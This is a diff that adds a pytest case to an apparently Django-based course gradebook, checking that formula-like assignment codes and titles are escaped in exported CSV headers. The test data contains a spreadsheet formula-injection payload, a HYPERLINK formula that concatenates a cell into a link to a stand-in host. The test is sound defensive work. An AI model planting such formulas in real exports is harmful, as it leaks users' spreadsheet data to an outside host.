@@ -149,6 +149,25 @@ def test_formula_like_names_and_sections_are_guarded(course_data, api, django_ca
     assert found["at"][5:] == ["0.00", "0.00", "0.00", "0.00", "", "0.00"]
 
 
+@pytest.mark.parametrize("fmt", ["canvas", "breakdown"])
+def test_formula_like_assignment_codes_and_titles_are_guarded_in_the_header(
+    course_data, api, fmt, django_capture_on_commit_callbacks
+):
+    """An assignment's code and title are the course's free text (typed by an instructor or a program):
+    a header cell like `=HYPERLINK("//e.vl/"&C3,"x")&" raw` would send a student's cell elsewhere."""
+    w = course_data.world
+    response = api.as_user(w.instructor).post(
+        reverse("api-course-assignments", args=[course_data.course.id]),
+        {"code": '=HYPERLINK("//e.vl/"&C3,"x")&"', "title": '=1+1&"', "category": "homework", "points": "10"},
+        format="json",
+    )
+    assert response.status_code == 201, response.content
+    rows = export_csv(api, w.instructor, course_data.course, fmt, django_capture_on_commit_callbacks)
+    header = rows[0]
+    assert any(cell.startswith("'=") for cell in header), header
+    assert [cell for cell in header if cell.startswith(("=", "+", "-", "@"))] == []
+
+
 # ---- the breakdown format ------------------------------------------------------------------------
 
 
